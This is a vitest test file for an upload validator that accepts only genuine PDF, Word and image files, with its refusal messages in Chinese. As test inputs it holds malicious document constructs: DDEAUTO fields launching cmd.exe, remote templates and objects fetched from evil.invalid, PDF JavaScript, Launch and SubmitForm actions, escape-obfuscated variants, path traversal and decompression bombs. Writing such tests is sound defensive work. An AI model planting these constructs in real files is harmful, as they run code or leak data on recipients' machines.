import { deflateSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { checkFile, maxBytesPerFile, sniff } from '../../src/files/kinds.ts'
import { took } from '../took.ts'
import { bytesOf, doc, docx, joined, jpg, packedPdf, pdf, png, types, zip } from './samples.ts'

const allowed = { 'a.pdf': pdf(), 'a.doc': doc(), 'a.docx': docx(), 'a.jpg': jpg(), 'a.jpeg': jpg(), 'a.png': png() }
// What packs badly, so that a document is not taken for one that is made to swell.
const noise = Array.from({ length: 40_000 }, () => Math.random().toString(36)).join('')
const because = (name: string, bytes: Uint8Array) => {
  const found = checkFile({ name, bytes })
  return found.ok ? undefined : found.because.zh
}

describe('a file is what its bytes are', () => {
  it.each(Object.entries(allowed))('%s is taken in under its own kind', (name, bytes) => {
    expect(checkFile({ name, bytes })).toMatchObject({ ok: true, name, kind: name.slice(2).replace('jpeg', 'jpg') })
  })

  it.each([
    ['a web page', bytesOf('<!DOCTYPE html><html></html>')],
    ['an SVG drawing', bytesOf('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>')],
    ['a program', bytesOf(`MZ${'\0'.repeat(100)}`)],
    ['a GIF', bytesOf('GIF89a\x01\0\x01\0')],
    ['plain text', bytesOf('保全')],
    ['a PDF that begins later', joined(bytesOf('GIF89a'), pdf())],
    ['a PDF with a web page at its head', bytesOf('%PDF-1.7\n<html><script>alert(1)</script></html>\n%%EOF')],
    ['a PDF cut in half', bytesOf('%PDF-1.7\n1 0 obj\n<< /Type /Catalog')],
    ['a PNG without its header', bytesOf('\x89PNG\r\n\x1a\n')],
    ['a JPG without a frame', bytesOf('\xff\xd8\xff\xe0\0\x04\0\0\xff\xd9')],
    ['a plain zip', zip({ 'a.txt': 'x' })],
    ['a spreadsheet', zip({ [types]: '<Types/>', 'xl/workbook.xml': '<x/>' })],
    ['a Word document with macros', docx({ 'word/vbaProject.bin': 'x' })],
    [
      'a Word document that says it has macros',
      docx({ [types]: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
    ],
    ['a Word document with an archive inside', docx({ 'word/embeddings/x.zip': 'x' })],
    ['a Word document that climbs out of its folder', docx({ '../../evil.xml': 'x' })],
    ['a Word document made to swell', docx({ 'word/media/a.bmp': '0'.repeat(12_000_000) })],
    [
      'a Word document of thousands of parts',
      docx(Object.fromEntries(Array.from({ length: 2001 }, (_, at) => [`w/${at}`, '']))),
    ],
    ['a Word document with something behind its end', joined(docx(), bytesOf('<script>'))],
    ['a Word 97 document with macros', doc('_VBA_PROJECT')],
    ['another OLE file', bytesOf(`\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1${'\0'.repeat(504)}Workbook`)],
  ])('%s is not taken in', (_, bytes) => {
    expect(sniff(bytes)).toBeNull()
    expect(because('a.pdf', bytes)).toContain('只接收')
  })

  it.each(['heic', 'mif1', 'hevc'])(
    'a phone’s picture of the brand %s is refused with what to do about it',
    (brand) => {
      expect(because('IMG_1.HEIC', bytesOf(`\0\0\0\x18ftyp${brand}\0\0\0\0`))).toMatch(/HEIC.*截屏/)
      expect(because('a.mp4', bytesOf('\0\0\0\x18ftypisom\0\0\0\0'))).toContain('只接收')
    },
  )

  it('a PNG that is called .pdf is refused, and the words name both', () => {
    expect(because('合同.pdf', png())).toBe('文件名以 .pdf 结尾，内容却是PNG 图片。请改正文件名或重新选择。')
  })

  it('a picture that a phone gave the wrong ending gets the right one', () => {
    expect(checkFile({ name: 'IMG_1.JPG', bytes: png() })).toMatchObject({
      ok: true,
      name: 'IMG_1.png',
      type: 'image/png',
    })
  })

  it('a name without an ending gets one', () => {
    expect(checkFile({ name: '起诉状', bytes: pdf() })).toMatchObject({ ok: true, name: '起诉状.pdf' })
  })
})

describe('a file is not too small and not too big', () => {
  const ofSize = (head: Uint8Array, size: number, tail = '') =>
    joined(head, new Uint8Array(size - head.length - tail.length), bytesOf(tail))

  it('refuses nothing at all', () => expect(because('a.pdf', new Uint8Array())).toContain('空'))

  it('takes a PDF of exactly 20 MB and refuses one byte more', () => {
    expect(because('a.pdf', ofSize(pdf(), maxBytesPerFile, '%%EOF'))).toBeUndefined()
    expect(because('a.pdf', ofSize(pdf(), maxBytesPerFile + 1, '%%EOF'))).toContain('20 MB')
  })

  it('takes a picture of exactly 10 MB and refuses one byte more', () => {
    expect(because('a.png', ofSize(png(), 10 * 1024 * 1024))).toBeUndefined()
    expect(because('a.png', ofSize(png(), 10 * 1024 * 1024 + 1))).toContain('10 MB')
  })

  it('tells whoever took a picture of over 20 MB the limit of pictures, not that of documents', () => {
    expect(because('a.jpg', ofSize(jpg(), maxBytesPerFile + 1))).toMatch(/ 10 MB.*截屏/)
    expect(because('a.png', ofSize(png(), maxBytesPerFile + 1))).toContain(' 10 MB')
  })

  it.each([
    ['a.png', png(30_000, 30_000)],
    ['a.jpg', jpg(30_000, 30_000)],
  ])('refuses 30,000 by 30,000 pixels from the header of %s', (name, bytes) => {
    expect(because(name, bytes)).toContain('像素')
  })

  it('takes the largest picture that a phone makes', () => expect(because('a.jpg', jpg(12_000, 9_000))).toBeUndefined())
})

describe('a Word document fetches nothing when it is opened', () => {
  const type = (name: string) => `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${name}`
  const rels = (...all: string[]) => `<?xml version="1.0"?><Relationships>${all.join('')}</Relationships>`
  const one = (name: string, target: string, mode = 'External') =>
    `<Relationship Id="rId1" Type="${type(name)}" Target="${target}" TargetMode="${mode}"/>`
  const at = 'word/_rels/settings.xml.rels'
  const template = one('attachedTemplate', 'http://evil.invalid/a.dotm')
  const utf16 = (text: string) => `\ufeff${text}`

  it.each([
    ['a template from elsewhere', docx({ [at]: rels(template) })],
    ['a template from another machine', docx({ [at]: rels(one('attachedTemplate', 'file:///\\\\evil\\a.dotm')) })],
    ['a template in a list called in capitals', docx({ 'word/_rels/Settings.XML.RELS': rels(template) })],
    [
      'a picture from elsewhere',
      docx({ 'word/_rels/document.xml.rels': rels(one('image', 'https://evil.invalid/a.png')) }),
    ],
    [
      'an object from elsewhere',
      docx({ 'word/_rels/document.xml.rels': rels(one('oleObject', 'https://evil.invalid')) }),
    ],
    [
      'an object of another program',
      docx({ 'word/_rels/document.xml.rels': rels(one('oleObject', 'embeddings/a.bin', 'Internal')) }),
    ],
    ['a web page inside', docx({ 'word/_rels/document.xml.rels': rels(one('aFChunk', 'a.htm', 'Internal')) })],
    ['a template behind numbers', docx({ [at]: rels(template.replace('External', 'E&#x78;ternal')) })],
    ['a template that calls itself a link', docx({ [at]: rels(template.replace('rId1', `Type='x/hyperlink'`)) })],
    [
      'a template far from its name',
      docx({ [at]: rels(template.replace('TargetMode=', `TargetMode${' '.repeat(500)}=`)) }),
    ],
    ['a template behind a prefix', docx({ [at]: rels(template.replace('<Relationship', '<r:Relationship')) })],
    [
      'a list of words of its own',
      docx({ [at]: `<!DOCTYPE x [<!ENTITY e "External">]>${rels(template.replace('External', '&e;'))}` }),
    ],
    ['a list in letters that we do not read', docx({ [at]: utf16(rels(template)).split('').join('\0') })],
    ['lists without end', docx({ [at]: ' '.repeat(4_200_000), 'word/media/a.png': noise })],
  ])('one with %s is refused', (_, bytes) => expect(because('a.docx', bytes)).toContain('从别处读取'))

  const field = (instruction: string) =>
    `<w:document><w:r><w:fldChar w:fldCharType="begin"/></w:r>${instruction}<w:r><w:fldChar w:fldCharType="separate"/></w:r></w:document>`
  const piece = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`
  it.each([
    ['whole', field(piece(' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" '))],
    ['in pieces', field(piece(' DD') + piece('EAUTO c:\\cmd.exe'))],
    ['in small letters', field(piece('dde excel a b'))],
    ['behind numbers', field(piece('&#68;DE excel a b'))],
    ['in an attribute', '<w:p><w:fldSimple w:instr=" DDE excel a b "/></w:p>'],
    ['after a field within', field(piece(' ') + field(piece('SET a b')) + piece('DDEAUTO c a'))],
    ['behind a mark that closes nothing', field('<w:instrText a=">">DDEAUTO c a</w:instrText>')],
    ['beside the markup', field(piece('<![CDATA[DDEAUTO c a]]>'))],
    ['around a comment', field(piece('DD<!-- -->EAUTO c a'))],
    ['to another document', field(piece('LINK Excel.Sheet.12 "\\\\evil\\a.xlsx" R1C1 \\a'))],
  ])('one with a field that calls another program, %s, is refused', (_, text) =>
    expect(because('a.docx', docx({ 'word/footnotes.xml': text }))).toContain('从别处读取'),
  )

  it('nor may its text be called otherwise than text', () => {
    const named = `<Types><Override PartName="/word/a.png" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`
    expect(because('a.docx', docx({ [types]: named, 'word/a.png': field(piece('DDEAUTO c a')) }))).toContain('只接收')
  })

  it('one with the usual fields is taken in', () => {
    const usual = ['PAGE', 'TOC \\o "1-3"', 'HYPERLINK "https://court.example/LINK" ', 'MERGEFIELD DDE', 'REF LADDER']
    const text = usual
      .map((one) => field(piece(one)))
      .join('')
      .replaceAll(/<\/?w:document>/g, '')
    const bytes = docx({ 'word/document.xml': `<w:document>${text}<w:t>DDEAUTO 是什么</w:t></w:document>` })
    expect(because('a.docx', bytes)).toBeUndefined()
  })

  it.each(['<w:instrText', '<w:instrText "', 'instr  ', '<w:fldChar ', '<!--'])(
    'a text of nothing but “%s” is read in one walk',
    async (text) => {
      const bytes = docx({ 'word/document.xml': text.repeat(3_000_000 / text.length), 'word/media/a.png': noise })
      expect(await took(() => checkFile({ name: 'a.docx', bytes }))).toBeLessThan(1500)
    },
  )

  it('one with links to follow, parts of its own and a template on one’s own disk is taken in', () => {
    const document = rels(
      one('hyperlink', 'https://court.example/a?b=1&amp;c=2'),
      one('image', 'media/a.png', 'Internal'),
    )
    const own = rels(one('attachedTemplate', 'file:///C:\\Users\\王\\Templates\\合同.dotx'))
    expect(because('a.docx', docx({ 'word/_rels/document.xml.rels': document, [at]: own }))).toBeUndefined()
  })

  it.each([
    ['in UTF-16', docx({ [types]: `\ufeff${[...'<Types>macroEnabled'].join('\0')}` })],
    ['behind numbers', docx({ [types]: '<Types>macro&#69;nabled.main' })],
    ['in a second list', zip({ [types]: '<Types/>', 'word/document.xml': '', '[content_types].XML': 'macroEnabled' })],
  ])('macros that a list tells of %s are seen', (_, bytes) => expect(because('a.docx', bytes)).toContain('只接收'))

  it.each(['<Relationship ', '<Relationship Id="', '<Relationship a = ', '&#', ' \n'])(
    'a list of nothing but “%s” is read in one walk',
    async (piece) => {
      const bytes = docx({ [at]: piece.repeat(3_000_000 / piece.length), 'word/media/a.png': noise })
      expect(await took(() => checkFile({ name: 'a.docx', bytes }))).toBeLessThan(1500)
    },
  )
})

describe('a Word 97-2003 document', () => {
  const plainly = (text: string) => joined(doc(), bytesOf(text))
  const wide = (text: string) => [...text].map((letter) => `${letter}\0`).join('')
  const titles = (template: string) =>
    `\xff\xff\x12\0\0\0\x02\0${wide('ab')}${String.fromCharCode(template.length)}\0${wide(template)}`
  const storage = (name: string) => `${wide(name)}${'\0\0'.repeat(32 - name.length)}\x18\0\x01`
  it.each([
    ['a field that starts a program', '\x13 DDEAUTO c:\\cmd.exe \x14'],
    ['such a field in letters of two bytes', wide('\x13 dde excel a b \x14')],
    ['a link into another document', '\x13LINK Excel.Sheet.8 \\\\evil\\a.xls'],
    ['a template from elsewhere', titles('https://evil.invalid/a')],
    ['a template from another machine', titles('\\\\evil\\a.dot')],
    ['an object of another program', storage('_1234567890')],
  ])('with %s is refused', (_, text) => expect(because('a.doc', plainly(text))).toContain('从别处读取'))

  it('with macros is refused, in whatever letters they are called', () =>
    expect(because('a.doc', doc('_vba_project'))).toContain('只接收'))

  it.each([
    ['a template on the own disk', titles('C:\\Users\\a\\Normal.dot')],
    ['the usual fields', '\x13 PAGE \x14 \x13 HYPERLINK "http://court.example/" \x14 DDEAUTO'],
    ['the folder of objects without any', storage('ObjectPool')],
  ])('with %s is taken in', (_, text) => expect(because('a.doc', plainly(text))).toBeUndefined())

  it.each(['\xff\xff\x12\0\0\0', '\x13 ', '_\0', '\x13"'])('of nothing but %j is read in one walk', async (text) => {
    const bytes = plainly(text.repeat(6_000_000 / text.length))
    expect(await took(() => checkFile({ name: 'a.doc', bytes }))).toBeLessThan(1500)
  })
})

describe('a PDF cannot act by itself', () => {
  const script = '1 0 << /S /JavaScript >>'

  it.each([
    ['a script', pdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>')],
    ['a script behind escapes', pdf('/OpenAction << /S /J#61vaScript >>')],
    ['a script that plays a sound', pdf('/OpenAction << /S /Rendition /JS (app.alert(1)) >>')],
    ['a launch action behind escapes', pdf('/OpenAction << /S /#4caun#63h /F (cmd.exe) >>')],
    ['a launch action', pdf('/OpenAction << /S /Launch /F (cmd.exe) >>')],
    ['an XFA form', pdf('/AcroForm << /XFA 3 0 R >>')],
    ['an XFA form in a packed object', packedPdf('1 0 << /XFA 3 0 R >>')],
    ['a file elsewhere that is opened', pdf('/OpenAction << /S /GoToR /F (\\\\evil\\share\\a.pdf) >>')],
    ['a form that is sent off', pdf('/OpenAction << /S /SubmitForm /F (http://evil.invalid) >>')],
    ['an attached file', pdf('/Names << /EmbeddedFiles 3 0 R >>')],
    ['a script in a packed object', packedPdf('1 0 << /S /JavaScript >>')],
    ['an escaped script in a packed object', packedPdf('1 0 << /S /JavaScr#69pt >>')],
    [
      'a script in a packed object that hides its type',
      packedPdf('1 0 << /S /JavaScript >>', '/F#69rst 4 /N 1 /Filter /FlateDecode'),
    ],
    [
      'a script in a packed object whose stream is far from its description',
      packedPdf(script, `/First 4 /Filter /FlateDecode ${' '.repeat(5000)}`),
    ],
    [
      'a script in a packed object with an object in its description',
      packedPdf(script, '/First 4 /Filter/F (5 0 obj)'),
    ],
    ['a script in a packed object of old line ends', packedPdf(script, '/First 4 /Filter /FlateDecode', '\r')],
    ['a script in a packed object behind a blank', packedPdf(script, '/First 4 /Filter /FlateDecode', ' \n')],
    ['a script in a packed object whose first one is told elsewhere', packedPdf(script, '/First 7 0 R /Filter/F')],
  ])('%s is quarantined', (_, bytes) => expect(because('a.pdf', bytes)).toContain('脚本'))

  it('a protected one cannot be examined', () => expect(because('a.pdf', pdf('/Encrypt 4 0 R'))).toContain('密码'))

  it('objects packed in a way we cannot unpack are refused', () => {
    expect(because('a.pdf', pdf('/First 4 /Filter /LZWDecode >>\nstream\nxxxx\nendstream'))).toContain('无法读取')
  })

  const twice = (dictionary: string) => packedPdf(new Uint8Array(deflateSync(script)), dictionary)
  it.each([
    ['packed twice', twice('/First 4 /Filter [/FlateDecode /FlateDecode]')],
    ['packed twice behind escapes', twice('/First 4 /Fil#74er [/FlateDecode /FlateDecode]')],
    [
      'packed twice and said to be packed once',
      twice('/First 4 /Filter [/FlateDecode /FlateDecode] /X (obj /Filter /Fl)'),
    ],
    ['packed twice and said so twice', twice('/First 4 /Filter [/FlateDecode /FlateDecode] /Filter /FlateDecode')],
    ['written as differences', packedPdf('1 0 x', '/First 4 /Filter /FlateDecode /DecodeParms << /Predictor 2 >>')],
    ['packed in a way that is told elsewhere', packedPdf('1 0 x', '/First 4 /Filter 9 0 R')],
  ])('objects %s are refused', (_, bytes) => expect(because('a.pdf', bytes)).toContain('无法读取'))

  it.each(['/Filter/FlateDecode', '/Filter [ /FlateDecode ]', '/Filter /Fl /Extends 7 0 R /Length 8 0 R'])(
    'objects packed as %s are taken in',
    (filter) =>
      expect(
        because('a.pdf', packedPdf('1 0 << /Type /Page >>', `/Type/ObjStm /N 1 /First 4 ${filter}`)),
      ).toBeUndefined(),
  )

  it('objects that swell past ten megabytes are refused and unpacking stops there', () => {
    expect(because('a.pdf', packedPdf(new Uint8Array(50_000_000)))).toContain('无法读取')
  })

  it('an ordinary one with packed objects is taken in', () => {
    expect(because('a.pdf', packedPdf('1 0 << /Type /Page >>'))).toBeUndefined()
  })

  it('one with bookmarks and a picture is taken in', () => {
    const picture = '/Subtype /Image /Filter /DCTDecode >>\nstream\n\xff\xd8\xff\nendstream'
    const bookmarks = '/Outlines 2 0 R >>\nendobj\n2 0 obj\n<< /First 3 0 R /Last 9 0 R >>\nendobj\n4 0 obj\n<< '
    expect(because('a.pdf', pdf(bookmarks + picture))).toBeUndefined()
  })

  it.each(['>>\nstream\n', '/First 4 ', '/First 3 0 R ', '#41'])(
    'one of nothing but “%s” is read in one walk',
    async (piece) => {
      const bytes = joined(pdf(), new TextEncoder().encode(piece.repeat(4_000_000 / piece.length)), pdf())
      expect(await took(() => checkFile({ name: 'a.pdf', bytes }))).toBeLessThan(1500)
    },
  )

  it('one of more packed objects than anybody makes is refused', () => {
    const many = Array.from({ length: 20_001 }, () => packedPdf('1 0 <<>>'))
    expect(because('a.pdf', joined(...many))).toContain('无法读取')
  })
})
